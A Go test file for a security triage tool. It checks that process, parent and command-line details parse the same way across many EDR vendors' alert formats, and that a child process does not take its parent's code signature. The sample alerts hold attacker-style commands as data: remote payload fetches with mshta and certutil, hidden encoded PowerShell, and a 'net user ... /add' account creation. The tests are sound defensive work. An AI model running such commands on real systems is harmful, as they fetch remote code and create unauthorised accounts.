package triage

import (
	"encoding/json"
	"testing"
)

// Each vendor names the process, its parent and their command lines its
// own way; the resolver must give the same answer for all of them.
func TestProcessFactsResolveAcrossVendorShapes(t *testing.T) {
	cases := []struct {
		name, payload                      string
		command, process, parent, parentCL string
	}{
		{"ecs nested", `{"process":{"name":"powershell.exe","executable":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","command_line":"powershell.exe -nop -c whoami","parent":{"name":"WINWORD.EXE","command_line":"\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n report.docm"}}}`,
			"powershell.exe -nop -c whoami", "powershell.exe", "winword.exe", `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n report.docm`},
		{"ecs dotted columns", `{"process.command_line":"cmd.exe /c ver","process.parent.command_line":"explorer.exe","process.parent.executable":"C:\\Windows\\explorer.exe"}`,
			"cmd.exe /c ver", "cmd.exe", "explorer.exe", "explorer.exe"},
		{"sysmon", `{"Image":"C:\\Windows\\System32\\rundll32.exe","CommandLine":"rundll32.exe C:\\Users\\a\\AppData\\x.dat,#1","ParentImage":"C:\\Windows\\explorer.exe","ParentCommandLine":"C:\\Windows\\Explorer.EXE"}`,
			`rundll32.exe C:\Users\a\AppData\x.dat,#1`, "rundll32.exe", "explorer.exe", `C:\Windows\Explorer.EXE`},
		{"splunk cim", `{"result":{"process":"cmd /c call C:\\build\\step.bat","process_name":"cmd.exe","process_path":"C:\\Windows\\System32\\cmd.exe","parent_process":"\"C:\\Program Files\\Java\\bin\\java.exe\" -jar agent.jar","parent_process_path":"C:\\Program Files\\Java\\bin\\java.exe"}}`,
			`cmd /c call C:\build\step.bat`, "cmd.exe", "java.exe", `"C:\Program Files\Java\bin\java.exe" -jar agent.jar`},
		{"carbon black child is not the process", `{"childproc_cmdline":"conhost.exe 0xffffffff -ForceV1","parent_cmdline":"OUTLOOK.EXE /restore","parent_name":"outlook.exe","process_cmdline":"powershell.exe -w hidden -enc AAAA","process_name":"powershell.exe"}`,
			"powershell.exe -w hidden -enc AAAA", "powershell.exe", "outlook.exe", "OUTLOOK.EXE /restore"},
		{"falcon parent details", `{"behaviors":[{"cmdline":"mshta.exe http://203.0.113.9/a.hta","filename":"mshta.exe","parent_details":{"cmdline":"\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\"","filename":"EXCEL.EXE"}}]}`,
			"mshta.exe http://203.0.113.9/a.hta", "mshta.exe", "excel.exe", `"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE"`},
		{"graph process evidence", `{"evidence":[{"@odata.type":"#microsoft.graph.security.processEvidence","processCommandLine":"certutil.exe -urlcache -f http://x/y","imageFile":{"fileName":"certutil.exe","filePath":"C:\\Windows\\System32"},"parentProcessImageFile":{"fileName":"cmd.exe","filePath":"C:\\Windows\\System32"}}]}`,
			"certutil.exe -urlcache -f http://x/y", "certutil.exe", "cmd.exe", ""},
		{"defender hunting keeps the created process", `{"InitiatingProcessCommandLine":"cmd.exe /c run.bat","InitiatingProcessFileName":"cmd.exe","InitiatingProcessParentFileName":"services.exe","ProcessCommandLine":"net user admin2 P@ss /add","FileName":"net.exe"}`,
			"net user admin2 P@ss /add", "net.exe", "cmd.exe", "cmd.exe /c run.bat"},
		{"defender initiating process alone is the subject", `{"InitiatingProcessCommandLine":"powershell.exe -file c:\\temp\\a.ps1","InitiatingProcessFileName":"powershell.exe","InitiatingProcessParentFileName":"wmiprvse.exe","FolderPath":"C:\\temp\\out.exe"}`,
			`powershell.exe -file c:\temp\a.ps1`, "powershell.exe", "wmiprvse.exe", ""},
		{"sentinelone deep visibility", `{"src.process.cmdline":"python3 -c 'import pty'","src.process.name":"python3","src.process.parent.name":"sshd","src.process.parent.cmdline":"sshd: root@pts/0"}`,
			"python3 -c 'import pty'", "python3", "sshd", "sshd: root@pts/0"},
		{"guardduty runtime lineage and container", `{"service":{"runtimeDetails":{"process":{"name":"sh","executablePath":"/bin/sh","lineage":[{"name":"java","executablePath":"/usr/bin/java"}]}}},"resource":{"eksClusterDetails":{"name":"prod"},"kubernetesDetails":{"kubernetesWorkloadDetails":{"containers":[{"image":"registry/app:1.4"}]}}}}`,
			"", "sh", "java", ""},
		{"trellix hx", `{"event_values":{"processEvent/processCmdLine":"wscript.exe //b C:\\Users\\x\\inv.js","processEvent/process":"wscript.exe","processEvent/parentProcess":"explorer.exe","processEvent/parentProcessPath":"C:\\Windows\\explorer.exe"}}`,
			`wscript.exe //b C:\Users\x\inv.js`, "wscript.exe", "explorer.exe", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var raw map[string]any
			if err := json.Unmarshal([]byte(c.payload), &raw); err != nil {
				t.Fatal(err)
			}
			p := readProcessFacts(newDoc(raw))
			if p.CommandLine != c.command || p.Name != c.process || p.ParentName != c.parent || p.ParentCommandLine != c.parentCL {
				t.Errorf("got command %q process %q parent %q parent command %q\nwant command %q process %q parent %q parent command %q",
					p.CommandLine, p.Name, p.ParentName, p.ParentCommandLine, c.command, c.process, c.parent, c.parentCL)
			}
		})
	}
}

func TestProgramOfHandlesPathsAndCommandLines(t *testing.T) {
	for in, want := range map[string]string{
		`"C:\Program Files\App\app.exe" -x`: `C:\Program Files\App\app.exe`,
		`C:\Program Files\App\app.exe -x`:   `C:\Program Files\App\app.exe`,
		`cmd.exe /c whoami`:                 `cmd.exe`,
		`/usr/bin/bash -c "id"`:             `/usr/bin/bash`,
		`C:\Program Files\Some Tool\helper`: `C:\Program Files\Some Tool\helper`,
		`powershell`:                        `powershell`,
	} {
		if got := programOf(in); got != want {
			t.Errorf("programOf(%q) = %q, want %q", in, got, want)
		}
	}
}

// The parent's signature says nothing about the child's.
func TestEndpointSignatureIsTheProcessOwn(t *testing.T) {
	var raw map[string]any
	payload := `{"process":{"name":"updater.exe","executable":"C:\\Users\\a\\AppData\\Local\\Temp\\updater.exe","code_signature":{"exists":false},
		"parent":{"name":"explorer.exe","code_signature":{"exists":true,"trusted":true,"subject_name":"Microsoft Windows"}}}}`
	if err := json.Unmarshal([]byte(payload), &raw); err != nil {
		t.Fatal(err)
	}
	f := readEndpointFields(newDoc(raw), Indicators{})
	if f.Signed || f.TrustedSigner || f.Signer != "" {
		t.Errorf("child took the parent's signature: signed %v trusted %v signer %q", f.Signed, f.TrustedSigner, f.Signer)
	}
	if !f.SignatureBad {
		t.Error("an unsigned process is not marked as such")
	}
}
